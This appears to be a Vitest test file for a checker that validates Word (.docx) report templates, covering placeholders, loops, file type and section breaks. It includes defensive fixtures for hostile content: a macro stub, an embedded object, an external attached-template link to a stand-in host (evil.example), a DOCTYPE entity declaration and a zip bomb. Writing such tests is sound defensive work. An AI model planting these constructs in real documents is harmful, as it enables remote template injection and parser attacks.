import PizZip from "pizzip";
import { describe, expect, it } from "vitest";
import { checkTemplate } from "#lib/documents/templates/check";
import { templateOf } from "./paper.ts";

/** The shipped template with its main text changed, or with files of its own. */
function changed(edit: (xml: string) => string, files: Record<string, string | Buffer> = {}): Buffer {
  const zip = new PizZip(templateOf("own"));
  zip.file("word/document.xml", edit(zip.file("word/document.xml")?.asText() ?? ""));
  for (const [name, content] of Object.entries(files)) zip.file(name, content);
  return zip.generate({ type: "nodebuffer", compression: "DEFLATE" });
}

const same = (xml: string) => xml;
const faultsOf = (file: Buffer) => checkTemplate(file, false);

describe("a template", () => {
  it("that is shipped has no fault", () => {
    expect(checkTemplate(templateOf("own"), false)).toEqual([]);
    expect(checkTemplate(templateOf("consolidated"), true)).toEqual([]);
  });

  it("of a unit's report lacks the annexes of a consolidated one", () => {
    expect(checkTemplate(templateOf("own"), true)).toEqual([expect.stringContaining("{@annexes}")]);
  });

  it("tells every unknown and every missing placeholder at once", () => {
    const faults = faultsOf(
      changed((xml) =>
        xml.replace("{agency}", "{coQuan}").replace("{signerName}", "").replace("{marker} {text}", "{marker} {chu}"),
      ),
    );
    expect(faults).toHaveLength(5);
    expect(faults.join("\n")).toContain("{coQuan} không có trong hệ thống");
    expect(faults.join("\n")).toContain("{chu} không có trong hệ thống");
    expect(faults.join("\n")).toContain("Thiếu chỗ điền bắt buộc {agency}");
    expect(faults.join("\n")).toContain("Thiếu chỗ điền bắt buộc {signerName}");
    expect(faults.join("\n")).toContain("Thiếu chỗ điền bắt buộc {text}");
  });

  it("tells every loop that is not closed", () => {
    const faults = faultsOf(
      changed((xml) => xml.replace("{/copies}", "").replace("{/item}", "").replace("{closing}", "{closing")),
    );
    expect(faults.length).toBeGreaterThanOrEqual(2);
    expect(faults.join("\n")).toMatch(/vòng lặp/);
    expect(faults.join("\n")).toMatch(/chưa đóng ngoặc/);
  });

  it.each([
    ["a macro", { "word/vbaProject.bin": "MZ" }, "macro"],
    ["an embedded object", { "word/embeddings/oleObject1.bin": "x" }, "đối tượng nhúng"],
    [
      "an external link",
      {
        "word/_rels/settings.xml.rels":
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External" Target="http://evil.example/t.dotm"/></Relationships>',
      },
      "http://evil.example/t.dotm",
    ],
    ["a document type", { "word/footnotes.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>' }, "DOCTYPE"],
    ["gigabytes in a few bytes", { "word/media/a.bin": Buffer.alloc(20_100_000) }, "giải nén"],
  ])(
    "with %s is refused",
    (_, files, words) => {
      expect(faultsOf(changed(same, files)).join("\n")).toContain(words);
    },
    30_000, // packing the gigabytes takes its time
  );

  it("that is no .docx is refused", () => {
    expect(faultsOf(Buffer.from("%PDF-1.7"))).toEqual([expect.stringContaining("không phải là .docx")]);
    expect(faultsOf(new PizZip().file("a.txt", "a").generate({ type: "nodebuffer" }))).toEqual([
      expect.stringContaining("không phải là .docx"),
    ]);
    expect(faultsOf(templateOf("own").subarray(0, 2_000))).toEqual([expect.stringContaining("không phải là .docx")]);
  });

  it("whose page layout would go with a placeholder is refused", () => {
    const merged = changed((xml) =>
      xml.replace(
        /(<w:p>(?:(?!<w:p>).)*?<w:pPr>)((?:(?!<w:p>).)*?\{closing\})/s,
        '$1<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr>$2',
      ),
    );
    expect(faultsOf(merged).join("\n")).toContain("Ngắt phần trang");
  });
});
